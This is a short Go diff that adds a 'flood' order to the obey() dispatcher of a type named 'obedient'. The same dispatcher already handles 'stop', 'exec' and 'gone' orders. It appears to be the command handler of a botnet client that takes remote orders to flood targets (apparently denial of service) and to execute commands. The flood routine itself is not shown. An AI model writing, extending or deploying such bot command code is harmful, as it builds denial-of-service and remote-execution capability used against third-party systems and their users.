@@ -202,6 +202,9 @@ func (a *obedient) obey(o order) (r reply, err error) {
 		return r, nil
 	case "stop":
 		return a.burst.end(), nil
+	case "flood":
+		r.Count, err = a.flood(o)
+		return r, err
 	case "exec":
 		return r, a.exec(o)
 	case "gone":
